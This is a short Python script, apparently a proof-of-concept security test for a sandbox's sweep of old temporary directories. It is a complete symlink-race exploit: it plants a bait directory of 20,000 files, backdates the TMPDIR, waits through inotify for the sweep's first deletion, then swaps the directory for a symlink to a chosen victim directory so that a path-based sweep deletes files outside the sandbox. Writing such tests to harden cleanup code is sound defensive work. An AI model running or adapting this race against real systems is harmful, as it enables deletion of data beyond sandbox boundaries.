"""Inside a sandbox without namespaces: try to turn the next corral's sweep
of old TMPDIRs into a removal outside the sandbox.

    sweep_race.py VICTIM_DIR NAME

Fills a directory of its TMPDIR with files and NAME, makes the TMPDIR look
a few days old, and as soon as the sweep starts removing in that directory
puts a symlink to VICTIM_DIR in its place: a sweep that removes by path
would go on to remove VICTIM_DIR/NAME.
"""
import ctypes
import os
import sys
import time

IN_DELETE = 0x200


def main():
    victim_dir, name = sys.argv[1], sys.argv[2]
    tmpdir = os.environ["TMPDIR"]
    bait = os.path.join(tmpdir, "d")
    os.mkdir(bait)
    for i in range(20000):
        open(os.path.join(bait, "f%05d" % i), "w").close()
    open(os.path.join(bait, name), "w").close()

    libc = ctypes.CDLL(None, use_errno=True)
    watch = libc.inotify_init()
    libc.inotify_add_watch(watch, bait.encode(), IN_DELETE)
    days_ago = time.time() - 3 * 86400
    os.utime(tmpdir, (days_ago, days_ago))
    print("armed", flush=True)

    os.read(watch, 4096)  # the sweep has begun in the bait directory
    os.rename(bait, bait + ".moved")
    os.symlink(victim_dir, bait)
    print("swapped", flush=True)
    time.sleep(2)


if __name__ == "__main__":
    main()
